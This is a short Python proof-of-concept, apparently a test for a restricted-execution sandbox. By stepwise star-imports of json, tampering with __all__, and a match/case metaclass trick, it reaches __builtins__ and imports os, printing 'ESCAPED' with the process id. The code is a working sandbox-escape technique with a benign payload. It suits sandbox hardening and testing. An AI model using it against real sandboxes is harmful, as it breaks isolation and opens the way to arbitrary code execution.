# proves: prints ESCAPED pid; from m import * binds whatever __all__ names, also a guard

import json
json.__all__.append("__dict__")
# --- step ---
from json import *
__dict__["_match_class_"] = lambda subject, *classes: subject
json.__all__.append("_match_class_")
# --- step ---
from json import *
class Any(type):
    def __instancecheck__(cls, value):
        return True
class P(metaclass=Any):
    __match_args__ = ("__globals__",)
match json.dumps:
    case P(g):
        print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
